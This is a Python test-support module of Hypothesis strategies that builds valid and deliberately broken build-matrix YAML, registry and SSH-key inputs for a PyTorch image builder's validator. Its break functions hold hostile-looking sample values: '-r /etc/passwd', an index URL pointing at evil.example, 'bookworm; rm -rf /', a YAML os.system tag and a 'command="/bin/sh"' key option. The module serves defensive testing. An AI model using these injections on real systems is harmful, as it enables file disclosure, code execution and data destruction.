"""Hypothesis strategies for what torchyard reads from outside: each kind of input has a strategy that builds a VALID
value from the project's own facts (builder/matrix/compat.yaml, the grammars' documented forms), and one that BREAKS a valid
value in one place and says where a refusal must point.

A broken value is a `Broken`: the text to feed in, and `where`, the label the one refusal must name (for a matrix,
`images.<tag>.<key>`; for a setting, its Makefile variable). Tests assert the refusal's shape, so a new kind of input
(a lock, a record) needs only its pair of strategies here: valid_<kind>() and broken_<kind>(), with its breaks listed
the same way as MATRIX_BREAKS (one function per way to break it, drawn by sampled_from).
"""

from __future__ import annotations

import base64
import string
from dataclasses import dataclass

import yaml
from hypothesis import strategies as st

from builder.matrix import compat
from builder.matrix import validate
from builder.matrix.types import TAG_RE

FACTS = compat.load()
SECRET_MARK = "pw"  # a generated password starts with it, so that a test can look for the whole password

# What a password in a URL's userinfo may hold, unencoded: RFC 3986's unreserved characters, sub-delims and ':', the
# quote and angle characters urllib takes there too, and (below) percent-escapes.
PASSWORD_ALPHABET = string.ascii_letters + string.digits + "-._~!$&()*+,;=:'\"<>"
passwords = st.builds(lambda a, escape, b: f"{SECRET_MARK}{a}{escape}{b}", st.text(PASSWORD_ALPHABET, min_size=3, max_size=12),
                      st.sampled_from(["", "%40", "%2F", "%3A", "%25"]), st.text(PASSWORD_ALPHABET, min_size=3, max_size=12))
users = st.text(string.ascii_letters + string.digits + "-._~", min_size=1, max_size=12)


@dataclass(frozen=True)
class Broken:
    text: str  # what is fed in: a matrix file's text, a setting's value
    where: str  # the label the refusal must name
    secret: str | None = None  # never in any output


# ---------------------------------------------------------------- small grammars

# Built from text draws (one choice each) rather than st.from_regex where they run often: generation is most of a
# generated test's time.
LOWER_DIGITS = string.ascii_lowercase + string.digits


def _regex(text: str) -> st.SearchStrategy[str]:
    return st.from_regex(text, fullmatch=True)


dns_labels = st.text(LOWER_DIGITS + "-", min_size=1, max_size=12).map(lambda s: s.strip("-") or "x")
hosts = st.builds(lambda labels, tld: ".".join([*labels, tld]), st.lists(dns_labels, min_size=1, max_size=3),
                  st.sampled_from(["com", "example", "internal", "io"]))
path_components = st.builds(lambda a, sep, b: a + (sep + b if b else ""), st.text(LOWER_DIGITS, min_size=1, max_size=10),
                            st.sampled_from([".", "_", "-", "__", "--"]), st.text(LOWER_DIGITS, max_size=6))
namespaces = st.lists(path_components, min_size=0, max_size=3).map("/".join)
ports = st.integers(1, 65535)


@st.composite
def registries(draw) -> str:
    """host[:port][/namespace] as `make push REGISTRY=` takes it."""
    host = draw(st.one_of(hosts, st.just("localhost"), st.builds(lambda *o: ".".join(map(str, o)),
                                                                 *[st.integers(0, 255)] * 4)))
    port = draw(st.one_of(st.none(), ports))
    namespace = draw(namespaces)
    return host + (f":{port}" if port else "") + (f"/{namespace}" if namespace else "")


repositories = st.lists(path_components, min_size=1, max_size=3).map("/".join).filter(lambda r: len(r) <= 255)
hex64 = st.binary(min_size=32, max_size=32).map(bytes.hex)  # one draw, not 64


def wire_key(key_type: str, body: bytes) -> str:
    """An OpenSSH public key line: base64 of the type as a length-prefixed string, then the key's own fields."""
    name = key_type.encode()
    return f"{key_type} {base64.b64encode(len(name).to_bytes(4, 'big') + name + body).decode()}"


public_keys = st.builds(lambda t, body, comment: wire_key(t, body) + (f" {comment}" if comment else ""),
                        st.sampled_from(sorted(["ssh-ed25519", "ssh-rsa", "ecdsa-sha2-nistp256", "ecdsa-sha2-nistp384",
                                                "ecdsa-sha2-nistp521", "sk-ssh-ed25519@openssh.com",
                                                "sk-ecdsa-sha2-nistp256@openssh.com"])),
                        st.binary(min_size=1, max_size=80), st.text(string.ascii_letters + "@.-_", max_size=20))



@st.composite
def broken_public_keys(draw) -> str:
    """A public key line broken in one way the image's entrypoint refuses."""
    key = draw(public_keys)
    kind, data = key.split(" ")[:2]
    other = "ssh-rsa" if kind != "ssh-rsa" else "ssh-ed25519"
    return draw(st.sampled_from([
        key.replace(kind, "ssh-dss", 1),  # a type OpenSSH no longer takes
        f"{kind} {data[:-4]}" if len(data) > 8 else f"{kind} {data[:-1]}",  # cut: no longer base64 of a key
        f"{kind} {wire_key(other, b'x').split(' ')[1]}",  # the data names another type
        f"{kind} {wire_key(kind, b'').split(' ')[1]}",  # the type and nothing after it
        f'command="/bin/sh" {key}', f"{kind}\t", f"{kind} {data} \x1b[31m", f"{kind} not*base64",
    ]))


# ---------------------------------------------------------------- matrix.yaml


def _suites_for(release: compat.TorchRelease) -> list[str]:
    return [suite for suite, python in FACTS.debian_python.items() if release.missing_wheels(python) is None]


def _prefixes(version: str) -> list[str]:
    """'0.21.0' -> ['0.21', '0.21.0']: the forms a matrix may write a bundled version in."""
    parts = version.split(".")
    return [".".join(parts[:n]) for n in range(2, len(parts) + 1)]


requirement_names = st.builds(lambda a, sep, b: a + (sep + b if b else ""), st.text(string.ascii_lowercase, min_size=1, max_size=9),
                              st.sampled_from(["-", "_", "."]), st.text(LOWER_DIGITS, max_size=6))
requirements = st.builds(
    lambda name, extra, spec, marker: f"{name}{extra}{spec}{marker}",
    requirement_names, st.sampled_from(["", "[cli]", "[a,b]"]),
    st.sampled_from(["", "==1.0", ">=2,<3", "~=0.8.1", "!=1.2.*"]),
    st.sampled_from(["", ' ; python_version >= "3.9"', "; sys_platform == 'linux'"]))
sizes = st.builds(lambda n, unit: f"{n}{unit}", st.integers(1, 99_999), st.sampled_from(["B", "MB", "GB", "GiB", "MiB", "TB"]))


@st.composite
def entries(draw, default_suite: str) -> tuple[str, dict]:
    """(tag, entry) of one image that builder/matrix/validate.py accepts, given the suite of the matrix's defaults.base."""
    devel_variants = [(r, v) for r in FACTS.releases.values() for v in r.variants.values() if v.cuda in FACTS.nvcc]
    release, variant, devel = draw(st.one_of(
        st.sampled_from([(r, v, False) for r in FACTS.releases.values() for v in r.variants.values()]),
        st.sampled_from([(r, v, True) for r, v in devel_variants])))
    nvcc = FACTS.nvcc.get(variant.cuda) if devel else None
    suites = _suites_for(release)
    if nvcc and nvcc.source == "debian":
        suites = [nvcc.suite] if nvcc.suite in suites else []
    if not suites:  # no suite has the wheels this release needs: a valid matrix cannot name it
        draw(st.nothing())
    # Which optional keys the entry has, and the form of each: one draw of bits (a draw per choice would make
    # generation, not the code under test, most of the suite's time).
    bits = draw(st.integers(0, 2**11 - 1))

    def has(bit: int) -> bool:
        return bool(bits >> bit & 1)

    entry: dict = {"torch": release.minor if has(0) else release.version}
    if has(1):
        entry["cuda"] = variant.name
    suite = default_suite if default_suite in suites and not (nvcc and nvcc.source == "debian") else None
    if suite is None or has(2):
        suite = draw(st.sampled_from(suites))
        if nvcc and nvcc.source == "debian":
            entry["base"] = suite  # a Debian compiler's base is made locally
        else:
            entry["base"] = f"docker.io/library/debian:{suite}-slim@sha256:{draw(hex64)}" if has(3) else suite
    if has(4):
        entry["python"] = FACTS.debian_python[suite]
    if has(5):
        entry["torchvision"] = _prefixes(release.torchvision)[has(6)]
    if variant.cudnn and has(6):
        entry["cudnn"] = _prefixes(variant.cudnn)[has(7)]
    if release.torchaudio and has(10) and release.missing_wheels(FACTS.debian_python[suite], torchaudio=True) is None:
        entry["torchaudio"] = _prefixes(release.torchaudio)[has(1)]
    if has(7):
        entry["extra_packages"] = draw(st.lists(requirements, max_size=3))
    if has(8):
        entry["allow_direct_urls"] = has(9)
        if has(9) and has(3):
            name = draw(requirement_names)
            entry.setdefault("extra_packages", []).append(
                f"{name} @ https://{draw(hosts)}/{name.replace('-', '_')}-1.0-py3-none-any.whl")
    if has(9) and not has(8) or has(0) and has(5):
        entry["size_budget"] = draw(sizes)
    return f"v{release.minor}-{variant.name}" + ("-devel" if devel else ""), entry


@dataclass(frozen=True)
class MatrixDoc:
    """A matrix as data: dumped to YAML by text(), in block or flow style."""

    default: str
    defaults: dict | None
    images: dict
    flow: bool = False

    def data(self) -> dict:
        data = {"default": self.default}
        if self.defaults is not None:
            data["defaults"] = self.defaults
        data["images"] = self.images
        return data

    def text(self) -> str:
        return yaml.safe_dump(self.data(), sort_keys=False, default_flow_style=None if self.flow else False,
                              allow_unicode=True, width=10_000)


@st.composite
def valid_matrices(draw) -> MatrixDoc:
    defaults = draw(st.one_of(st.none(), st.fixed_dictionaries({}, optional={
        "base": st.sampled_from(list(FACTS.debian_python)), "size_budget": sizes})))
    default_suite = (defaults or {}).get("base", "bookworm")
    images = dict(draw(st.lists(entries(default_suite), min_size=1, max_size=3, unique_by=lambda e: e[0])))
    return MatrixDoc(default=draw(st.sampled_from(list(images))), defaults=defaults, images=images, flow=draw(st.booleans()))


# Ways to break one thing in a valid matrix. Each takes (draw, doc) and returns (the broken doc or text, where): `where`
# is the label the one problem must carry, e.g. images.v2.6-cu124.torch, or a line of the file ('line 3').

NOT_A_VERSION = st.one_of(st.lists(st.integers(0, 9), min_size=1, max_size=3), st.integers(0, 99),
                          st.floats(0, 99, allow_nan=False), st.booleans(), st.none(),
                          st.dictionaries(st.sampled_from(["v", "x"]), st.integers(0, 9), min_size=1))
JUNK_TEXT = st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc"]), min_size=1, max_size=30)


def _one_tag(draw, doc: MatrixDoc) -> tuple[str, dict]:
    tag = draw(st.sampled_from(list(doc.images)))
    return tag, dict(doc.images[tag])


def _with(doc: MatrixDoc, tag: str, entry: dict) -> MatrixDoc:
    return MatrixDoc(doc.default, doc.defaults, {**doc.images, tag: entry}, doc.flow)


def break_version_type(draw, doc):
    tag, entry = _one_tag(draw, doc)
    key = draw(st.sampled_from(["torch", "python", "torchvision", "torchaudio", "cudnn"]))
    entry[key] = draw(NOT_A_VERSION)
    return _with(doc, tag, entry), f"images.{tag}.{key}"


def break_unknown_key(draw, doc):
    tag, entry = _one_tag(draw, doc)
    key = draw(st.one_of(_regex(r"[a-z][a-z_]{0,15}"), st.sampled_from(["Torch", "cuda_version", "extra-packages", "bas"]))
               .filter(lambda k: k not in validate.ENTRY_KEYS))
    entry[key] = draw(st.one_of(JUNK_TEXT, st.integers()))
    return _with(doc, tag, entry), f"images.{tag}.{key}" if validate.word(key) == key else f"images.{tag}."


def break_torch_version(draw, doc):
    tag, entry = _one_tag(draw, doc)
    entry["torch"] = draw(st.one_of(JUNK_TEXT, _regex(r"[0-9]\.[0-9]{1,2}\.[0-9]")).filter(
        lambda v: FACTS.release(v) is None or compat.minor(FACTS.release(v).version) != tag.split("-")[0][1:]))
    return _with(doc, tag, entry), f"images.{tag}.torch"


def break_bundled_version(draw, doc):
    """torchvision, torchaudio or cudnn that the release does not pair with (a torch without a torchaudio refuses any)."""
    tag, entry = _one_tag(draw, doc)
    release = FACTS.release(entry["torch"])
    key = draw(st.sampled_from(["torchvision", "torchaudio", "cudnn"]))
    bundled = {"torchvision": release.torchvision, "torchaudio": release.torchaudio,
               "cudnn": release.variants[_variant(tag)].cudnn}[key]
    wrong = draw(_regex(r"[0-9]{1,2}\.[0-9]{1,2}(\.[0-9]{1,2})?").filter(
        lambda v: bundled is None or not validate.same_release(v, bundled)))
    entry[key] = wrong
    return _with(doc, tag, entry), f"images.{tag}.{key}"


def _variant(tag: str) -> str:
    return TAG_RE.fullmatch(tag)["cuda"]


def break_cuda(draw, doc):
    tag, entry = _one_tag(draw, doc)
    entry["cuda"] = draw(st.one_of(_regex(r"cu[0-9]{3}"), JUNK_TEXT, NOT_A_VERSION).filter(lambda v: v != _variant(tag)))
    return _with(doc, tag, entry), f"images.{tag}.cuda"


def break_base(draw, doc):
    tag, entry = _one_tag(draw, doc)
    entry["base"] = draw(st.one_of(
        JUNK_TEXT.filter(lambda v: v not in FACTS.debian_python),
        st.sampled_from(["debian:bookworm-slim", "debian:bookworm@sha256:abc", "Library/Debian:bookworm@sha256:" + "a" * 64,
                         "--platform=linux/arm64 debian:bookworm@sha256:" + "a" * 64, "sid", "ubuntu:24.04@sha256:" + "b" * 64]),
        NOT_A_VERSION))
    return _with(doc, tag, entry), f"images.{tag}.base"


def break_base_credentials(draw, doc):
    tag, entry = _one_tag(draw, doc)
    secret = draw(passwords)
    entry["base"] = f"{draw(users)}:{secret}@{draw(hosts)}/debian:bookworm@sha256:{draw(hex64)}"
    return Broken(_with(doc, tag, entry).text(), f"images.{tag}.base", secret), None


def break_extra_packages(draw, doc):
    tag, entry = _one_tag(draw, doc)
    bad = draw(st.sampled_from(["-r /etc/passwd", "--index-url http://evil.example/simple", "einops # comment",
                                "einops; platform_release == \"x --index-url http://e.example\"", "${HOME}pkg", "", "  ",
                                "einops\nnumpy", "e @ file:///tmp/e.whl", "not a requirement!"]))
    entry["extra_packages"] = draw(st.one_of(
        st.builds(lambda good, at: [*good[:at], bad, *good[at:]], st.lists(requirements, max_size=2), st.integers(0, 2)),
        st.just(bad), NOT_A_VERSION.filter(lambda v: not isinstance(v, list))))
    entry["allow_direct_urls"] = True if "file://" in bad else entry.get("allow_direct_urls", False)
    return _with(doc, tag, entry), f"images.{tag}.extra_packages"


def break_extra_url_credentials(draw, doc):
    tag, entry = _one_tag(draw, doc)
    secret = draw(passwords)
    entry["allow_direct_urls"] = True
    entry["extra_packages"] = [f"e @ https://{draw(users)}:{secret}@{draw(hosts)}/e-1.0-py3-none-any.whl"]
    return Broken(_with(doc, tag, entry).text(), f"images.{tag}.extra_packages", secret), None


def break_allow_direct_urls(draw, doc):
    tag, entry = _one_tag(draw, doc)
    entry["allow_direct_urls"] = draw(st.one_of(JUNK_TEXT, st.integers(), st.none(), st.lists(st.booleans(), max_size=2)))
    entry.pop("extra_packages", None)
    return _with(doc, tag, entry), f"images.{tag}.allow_direct_urls"


def break_size_budget(draw, doc):
    tag, entry = _one_tag(draw, doc)
    entry["size_budget"] = draw(st.one_of(st.sampled_from(["0GB", "-1GB", "7 parsecs", "GB", "٧GB", "", "1e3GB"]),
                                          st.integers(-5, 0).map(lambda n: f"{n}MB"), st.none(), st.lists(sizes, max_size=1)))
    return _with(doc, tag, entry), f"images.{tag}.size_budget"


def break_tag(draw, doc):
    tag, entry = _one_tag(draw, doc)
    bad = draw(st.one_of(JUNK_TEXT, st.sampled_from([tag + "\n", tag.upper(), tag.replace("-", "_"), tag + "-dev",
                                                     tag.replace("v", "V", 1), " " + tag]))
               .filter(lambda t: not TAG_RE.fullmatch(t) and t not in doc.images))
    images = {(bad if t == tag else t): e for t, e in doc.images.items()}
    default = bad if doc.default == tag else doc.default
    return MatrixDoc(default, doc.defaults, images, doc.flow), "images." + (bad if validate.word(bad) == bad else "")


def break_default(draw, doc):
    value = draw(st.one_of(JUNK_TEXT.filter(lambda t: t not in doc.images), NOT_A_VERSION.filter(lambda v: v is not None)))
    return MatrixDoc(value, doc.defaults, doc.images, doc.flow), "default"


def break_defaults(draw, doc):
    key, value = draw(st.sampled_from([("base", "bookworm; rm -rf /"), ("base", "debian:bookworm"), ("base", "ubuntu"),
                                       ("base", ["bookworm"]), ("size_budget", "0MB"), ("size_budget", "big")]))
    return MatrixDoc(doc.default, {**(doc.defaults or {}), key: value}, doc.images, doc.flow), f"defaults.{key}"


# Breaks of the YAML itself: the text of a valid matrix, changed. `where` is the line the problem names.

def break_yaml_alias(draw, doc):
    text = "anchor: &a \"2.6.0\"\n" + doc.text().replace("\nimages:", "\nother: *a\nimages:", 1)
    return text, "line 1"  # the refusal points at the anchor an alias repeats


def break_yaml_python_tag(draw, doc):
    tag = draw(st.sampled_from(list(doc.images)))
    lines = MatrixDoc(doc.default, doc.defaults, doc.images, flow=False).text().splitlines()
    at = lines.index(f"  {tag}:") if f"  {tag}:" in lines else None
    if at is None:
        draw(st.nothing())
    lines[at] = f"  {tag}: !!python/object/apply:os.system [\"true\"]"
    end = at + 1
    while end < len(lines) and lines[end].startswith("    "):  # the entry's own lines, replaced by the tagged value
        end += 1
    lines = lines[: at + 1] + lines[end:]
    return "\n".join(lines) + "\n", f"line {at + 1}"


def break_yaml_duplicate_tag(draw, doc):
    block = MatrixDoc(doc.default, doc.defaults, doc.images, flow=False).text()
    tag = draw(st.sampled_from(list(doc.images)))
    lines = block.splitlines()
    return block + f"  {tag}:\n    torch: \"{doc.images[tag]['torch']}\"\n", f"line {len(lines) + 1}"


def break_yaml_control(draw, doc):
    text = doc.text()
    at = draw(st.integers(0, len(text)))
    char = draw(st.sampled_from([c for c in map(chr, [*range(0, 9), 11, 12, *range(14, 32), 127, *range(0x80, 0xA0)])
                                 if c != "\x85"]))
    return text[:at] + char + text[at:], f"line {text[:at].count(chr(10)) + 1}"


def break_yaml_non_string_key(draw, doc):
    tag, entry = _one_tag(draw, doc)
    key = draw(st.sampled_from(["on", "yes", "2.6", "1", "~", "null", "true"]))
    lines = MatrixDoc(doc.default, doc.defaults, doc.images, flow=False).text().splitlines()
    at = lines.index(f"  {tag}:")
    lines.insert(at + 1, f"    {key}: x")
    return "\n".join(lines) + "\n", f"line {at + 2}"


MATRIX_BREAKS = (break_version_type, break_unknown_key, break_torch_version, break_bundled_version, break_cuda,
                 break_base, break_base_credentials, break_extra_packages, break_extra_url_credentials,
                 break_allow_direct_urls, break_size_budget, break_tag, break_default, break_defaults,
                 break_yaml_alias, break_yaml_python_tag, break_yaml_duplicate_tag, break_yaml_control,
                 break_yaml_non_string_key)


@st.composite
def broken_matrices(draw, breaks=MATRIX_BREAKS) -> Broken:
    """A valid matrix with one thing broken: its text, and the label or line the one refusal must name."""
    doc = draw(valid_matrices())
    how = draw(st.sampled_from(breaks))
    result, where = how(draw, doc)
    if isinstance(result, Broken):
        return result
    text = result if isinstance(result, str) else result.text()
    return Broken(text, where or "")
